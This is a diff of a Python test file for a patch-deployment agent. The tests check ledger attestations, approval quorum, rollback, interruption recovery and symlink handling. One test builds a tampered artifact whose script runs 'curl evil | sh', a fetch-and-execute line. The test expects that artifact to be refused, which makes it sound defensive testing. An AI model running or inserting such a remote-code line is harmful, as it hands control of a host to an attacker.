@@ -1,7 +1,8 @@
-"""One assignment end to end, against a ledger run by the lifecycle core: the bundle and the
-policy come from the core's own records, and the signed reports the agent produces are fed to
-the core's ReportDeployments operation, which verifies them against the host's registered
-certificate."""
+"""One assignment end to end, against a ledger run by the lifecycle core: the attestation the
+agent verifies is the core's own ``attest_deployment`` answer, endorsed by the three
+organizations' (test) peers exactly as Fabric peers endorse, and the signed reports the agent
+produces are fed to the core's ReportDeployments operation, which verifies them against the
+host's registered certificate."""
 
 from __future__ import annotations
 
@@ -13,7 +14,7 @@ from typing import Any
 
 import pytest
 
-from patchledger.agent.backends import FileTreeBackend
+from patchledger.agent.backends import FileTreeBackend, InstallerBackend
 from patchledger.agent.config import AgentConfig
 from patchledger.agent.errors import ConfigError, LockError
 from patchledger.agent.guard import Interrupted
@@ -22,37 +23,15 @@ from patchledger.agent.runner import Assignment, Outcome, RunResult, run_assignm
 from patchledger.chaincode.lifecycle.deployment import Deployment
 from patchledger.chaincode.lifecycle.host import Host
 from patchledger.chaincode.lifecycle.ledger import MemoryStore
-from patchledger.chaincode.lifecycle.ops import (
-    approvals,
-    deployments,
-    patches,
-    policies,
-    rollouts,
-    vulnerabilities,
-)
-from patchledger.chaincode.lifecycle.ops import hosts as host_ops
-from patchledger.chaincode.lifecycle.policy import Policy
-from patchledger.chaincode.lifecycle.queries import approval_bundle, get_record
-from tests.unit.agent.agent_support import make_tar, sha256
-from tests.unit.lifecycle.lifecycle_support import (
-    COMPLIANCE,
-    INVENTORY,
-    ITOPS,
-    NOW,
-    SECOPS,
-    TRUST,
-    host_identity,
-    patch_data,
-    policy_data,
-    run,
-    statement,
-    vuln_data,
-    who,
-)
+from patchledger.chaincode.lifecycle.ops import deployments
+from patchledger.chaincode.lifecycle.queries import get_record
+from tests.unit.agent.agent_support import make_tar
+from tests.unit.agent.attestation_support import HOST, App, peer
+from tests.unit.agent.attestation_support import ledger as attested_ledger
+from tests.unit.lifecycle.lifecycle_support import COMPLIANCE, ITOPS, NOW, SECOPS, TRUST, run
 
 ARTIFACT = make_tar({"bin/tool": b"#!/bin/sh\necho patched\n", "VERSION": b"5.4.5\n"})
 OLD = {"VERSION": b"5.6.1\n", "conf/tool.conf": b"keep me\n"}
-HOST = host_identity(ITOPS, "h1")
 HEALTHY = lambda target: HealthResult(True, "ok")  # noqa: E731
 SICK = lambda target: HealthResult(False, "service did not start")  # noqa: E731
 
@@ -60,29 +39,11 @@ SICK = lambda target: HealthResult(False, "service did not start")  # noqa: E731
 def ledger(artifact: bytes = ARTIFACT) -> MemoryStore:
     """Patch P-1 for ``artifact`` approved by SecOps and Compliance, host h1 enrolled by ITOps
     and rollout R-1's first wave started on it."""
-    store = MemoryStore()
-    run(store, who(SECOPS, "admin"), policies.bootstrap_policy, policy_data())
-    run(store, who(SECOPS, "feed"), vulnerabilities.record_vulnerability, vuln_data())
-    digest = sha256(artifact)
-    data = {**patch_data(), "artifact_sha256": digest, "artifact_size": len(artifact),
-            "artifact_uri": f"cas://{digest}"}
-    run(store, who(SECOPS, "feed"), patches.propose_patch, data)
-    run(store, who(ITOPS, "operator"), patches.attach_test_evidence, "P-1",
-        report_sha256=INVENTORY, uri="https://ci/1", summary="ok", passed=True)
-    for org in (SECOPS, COMPLIANCE):
-        signer = who(org, "approver")
-        run(store, signer, approvals.approve_patch, statement(signer, artifact=digest))
-    run(store, who(ITOPS, "admin"), host_ops.enroll_host, "h1", HOST.cert_pem.decode(),
-        trust=TRUST, groups=["web"])
-    run(store, who(ITOPS, "operator"), rollouts.create_rollout, "R-1", "P-1", [{"hosts": ["h1"]}])
-    run(store, who(ITOPS, "operator"), rollouts.advance_rollout, "R-1")
-    return store
+    return attested_ledger(artifact)
 
 
-def assignment(store: MemoryStore, artifact: bytes = ARTIFACT) -> Assignment:
-    policy = get_record(store, "Policy", "default")
-    assert isinstance(policy, Policy)
-    return Assignment("R-1", "P-1", approval_bundle(store, "P-1"), policy, artifact)
+def assignment(artifact: bytes = ARTIFACT) -> Assignment:
+    return Assignment("R-1", "P-1", artifact)
 
 
 @pytest.fixture
@@ -100,9 +61,13 @@ def tree(root: Path) -> dict[str, bytes]:
             for p in sorted(root.rglob("*")) if p.is_file()}
 
 
-def go(config: AgentConfig, job: Assignment, **kw: Any) -> RunResult:
+def go(config: AgentConfig, store: MemoryStore, job: Assignment | None = None,
+       *, app: App | None = None, **kw: Any) -> RunResult:
+    """Run the assignment with the ledger's attestations relayed by an honest app (all three
+    organizations' peers endorse) unless ``app`` says otherwise."""
     kw.setdefault("health", HEALTHY)
-    return run_assignment(config, job, roots=TRUST, host_key=HOST.key, clock=lambda: NOW, **kw)
+    return run_assignment(config, job or assignment(), roots=TRUST, host_key=HOST.key,
+                          attestor=app or App(store), clock=lambda: NOW, **kw)
 
 
 def submit(store: MemoryStore, result: RunResult) -> list[Any]:
@@ -115,7 +80,7 @@ def test_a_genuine_patch_is_applied_and_its_signed_report_is_accepted_by_the_cor
     config: AgentConfig,
 ) -> None:
     store = ledger()
-    result = go(config, assignment(store))
+    result = go(config, store)
     assert result.outcome is Outcome.VERIFIED
     assert result.verdict is not None and result.verdict.approving == (COMPLIANCE, SECOPS)
     assert tree(config.target) == {**OLD, "VERSION": b"5.4.5\n",
@@ -136,7 +101,7 @@ def test_a_failed_health_check_rolls_back_and_reports_failed_then_rolled_back(
     config: AgentConfig,
 ) -> None:
     store = ledger()
-    result = go(config, assignment(store), health=SICK)
+    result = go(config, store, health=SICK)
     assert result.outcome is Outcome.ROLLED_BACK
     assert "service did not start" in result.detail
     assert tree(config.target) == OLD
@@ -150,7 +115,7 @@ def test_a_failed_health_check_rolls_back_and_reports_failed_then_rolled_back(
 def test_a_tampered_artifact_is_refused_and_the_refusal_is_reported(config: AgentConfig) -> None:
     store = ledger()
     evil = make_tar({"bin/tool": b"#!/bin/sh\ncurl evil | sh\n", "VERSION": b"5.4.5\n"})
-    result = go(config, assignment(store, evil))
+    result = go(config, store, assignment(evil))
     assert result.outcome is Outcome.REFUSED
     assert "refused: artifact of patch 'P-1': sha256 is" in result.detail
     assert tree(config.target) == OLD
@@ -160,18 +125,22 @@ def test_a_tampered_artifact_is_refused_and_the_refusal_is_reported(config: Agen
 
 
 def test_a_bundle_below_quorum_is_refused(config: AgentConfig) -> None:
+    # The app can no longer drop an approval from what the agent sees: the approvals come in
+    # the endorsed attestation; altered, only its own organization's peer endorses it.
     store = ledger()
-    job = assignment(store)
-    bundle = {**job.bundle, "approvals": job.bundle["approvals"][:1]}
-    result = go(config, replace(job, bundle=bundle))
+
+    def drop_one(answer: dict[str, Any]) -> dict[str, Any]:
+        return {**answer, "approvals": answer["approvals"][:1]}
+
+    result = go(config, store, app=App(store, endorsers=[peer(ITOPS)], tamper=drop_one))
     assert result.outcome is Outcome.REFUSED
-    assert "2 needed" in result.detail
+    assert "endorsed by peers of 1 distinct organization(s) (ITOpsMSP), 2 needed" in result.detail
     assert tree(config.target) == OLD
 
 
 def test_outside_the_window_nothing_happens(config: AgentConfig) -> None:
     late = replace(config, maintenance_window="Sat 02:00-04:00 UTC")
-    result = go(late, assignment(ledger()))
+    result = go(late, ledger())
     assert (result.outcome, result.reports) == (Outcome.DEFERRED, ())
     assert "'Sat 02:00-04:00 UTC' is closed" in result.detail
     assert tree(config.target) == OLD
@@ -179,7 +148,7 @@ def test_outside_the_window_nothing_happens(config: AgentConfig) -> None:
 
 def test_the_dry_run_changes_nothing_and_signs_nothing(config: AgentConfig, tmp_path: Path) -> None:
     before = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")}
-    result = go(replace(config, dry_run=True), assignment(ledger()))
+    result = go(replace(config, dry_run=True), ledger())
     assert result.outcome is Outcome.PLANNED
     assert result.plan is not None and result.plan.added == ("bin/tool",)
     assert result.plan.replaced == ("VERSION",)
@@ -189,13 +158,13 @@ def test_the_dry_run_changes_nothing_and_signs_nothing(config: AgentConfig, tmp_
 
 def test_a_concurrent_run_is_refused(config: AgentConfig) -> None:
     with FileTreeBackend(config.target).lock(), pytest.raises(LockError):
-        go(config, assignment(ledger()))
+        go(config, ledger())
 
 
 def test_an_interrupted_run_is_recovered_before_the_next_one(config: AgentConfig) -> None:
     store = ledger()
-    FileTreeBackend(config.target).apply(ARTIFACT, "P-1")  # the agent died before the check
-    result = go(config, assignment(store))
+    FileTreeBackend(config.target).install(ARTIFACT, "P-1")  # the agent died before the check
+    result = go(config, store)
     assert result.recovery is not None
     assert (result.recovery.action, result.recovery.interrupted) == (
         "restored-previous", "apply/applied P-1")
@@ -210,7 +179,7 @@ def test_a_signal_during_apply_reverts_the_change(config: AgentConfig) -> None:
 
     before = signal.getsignal(signal.SIGTERM)  # the test session may have its own handler
     with pytest.raises(Interrupted, match="SIGTERM"):
-        go(config, assignment(ledger()), backend=FileTreeBackend(config.target, on_step=terminate))
+        go(config, ledger(), backend=FileTreeBackend(config.target, on_step=terminate))
     assert tree(config.target) == OLD
     assert FileTreeBackend(config.target).checkpoint() is None
     assert signal.getsignal(signal.SIGTERM) is before  # the agent restored it
@@ -224,7 +193,7 @@ def test_a_file_system_failure_during_apply_is_reverted_and_reported(
             raise OSError(28, "No space left on device")
 
     store = ledger()
-    result = go(config, assignment(store),
+    result = go(config, store,
                 backend=FileTreeBackend(config.target, on_step=disk_full))
     assert result.outcome is Outcome.FAILED
     assert "No space left on device" in result.detail
@@ -234,7 +203,7 @@ def test_a_file_system_failure_during_apply_is_reverted_and_reported(
 
 def test_without_a_health_check_the_report_says_applied(config: AgentConfig) -> None:
     store = ledger()
-    result = go(config, assignment(store), health=None)
+    result = go(config, store, health=None)
     assert [r["report"]["outcome"] for r in result.reports] == ["APPLIED"]
     assert [r.accepted for r in submit(store, result)] == [True]
 
@@ -244,13 +213,13 @@ def test_the_configured_health_command_runs_in_the_target(config: AgentConfig) -
 
     check = (sys.executable, "-c", "import pathlib, sys; "
              "sys.exit(pathlib.Path('VERSION').read_bytes() != b'5.4.5\\n')")
-    result = go(replace(config, health_command=check), assignment(ledger()), health=None)
+    result = go(replace(config, health_command=check), ledger(), health=None)
     assert result.outcome is Outcome.VERIFIED
 
 
 def test_sequence_numbers_continue_across_runs(config: AgentConfig) -> None:
-    first = go(config, assignment(ledger()), health=SICK)
-    second = go(config, assignment(ledger()))
+    first = go(config, ledger(), health=SICK)
+    second = go(config, ledger())
     assert [r["report"]["sequence"] for r in first.reports + second.reports] == [1, 2, 3]
 
 
@@ -259,3 +228,73 @@ def test_a_bad_configuration_is_refused(tmp_path: Path) -> None:
         AgentConfig(host_id="h1", target=tmp_path, state_dir=tmp_path, min_quorum=0)
     with pytest.raises(ConfigError, match="maintenance window"):
         AgentConfig(host_id="h1", target=tmp_path, state_dir=tmp_path, maintenance_window="soon")
+
+
+class RecordingBackend(FileTreeBackend):
+    """A second InstallerBackend: the file tree, recording the protocol calls the runner
+    makes and, when asked, corrupting the target between apply and verify."""
+
+    def __init__(self, target: Path, *, corrupt: bool = False) -> None:
+        super().__init__(target)
+        self.calls: list[str] = []
+        self.corrupt = corrupt
+
+    def recover(self) -> Any:
+        self.calls.append("recover")
+        return super().recover()
+
+    def stage(self, artifact: bytes, label: str) -> Any:
+        self.calls.append("stage")
+        return super().stage(artifact, label)
+
+    def apply(self) -> None:
+        self.calls.append("apply")
+        super().apply()
+        if self.corrupt:
+            (self.target / "VERSION").write_bytes(b"something else\n")
+
+    def verify(self) -> None:
+        self.calls.append("verify")
+        super().verify()
+
+    def commit(self) -> None:
+        self.calls.append("commit")
+        super().commit()
+
+
+def test_the_runner_drives_any_installer_backend_through_the_protocol(
+    config: AgentConfig,
+) -> None:
+    backend: InstallerBackend = RecordingBackend(config.target)
+    result = go(config, ledger(), backend=backend)
+    assert result.outcome is Outcome.VERIFIED
+    assert isinstance(backend, RecordingBackend)
+    assert backend.calls == ["recover", "stage", "apply", "verify", "commit"]
+
+
+def test_a_target_that_does_not_hold_the_staged_files_after_apply_is_reverted(
+    config: AgentConfig,
+) -> None:
+    backend = RecordingBackend(config.target, corrupt=True)
+    result = go(config, ledger(), backend=backend)
+    assert result.outcome is Outcome.FAILED
+    assert "does not hold the applied artifact: VERSION" in result.detail
+    assert tree(config.target) == OLD  # the change was reverted
+    assert "commit" not in backend.calls
+
+
+def test_a_link_in_the_target_fails_the_run_and_the_dry_run_says_so(
+    config: AgentConfig, tmp_path: Path
+) -> None:
+    """The target holds ``bin -> <outside>`` and the artifact writes ``bin/tool``: the dry run
+    reports the refusal (not a plain "added"), and the real run writes nothing outside."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (config.target / "bin").symlink_to(outside, target_is_directory=True)
+    planned = go(replace(config, dry_run=True), ledger())
+    assert planned.outcome is Outcome.FAILED
+    assert "would fail" in planned.detail and "symbolic link at 'bin'" in planned.detail
+    result = go(config, ledger())
+    assert result.outcome is Outcome.FAILED
+    assert list(outside.iterdir()) == []
+    assert tree(config.target) == OLD
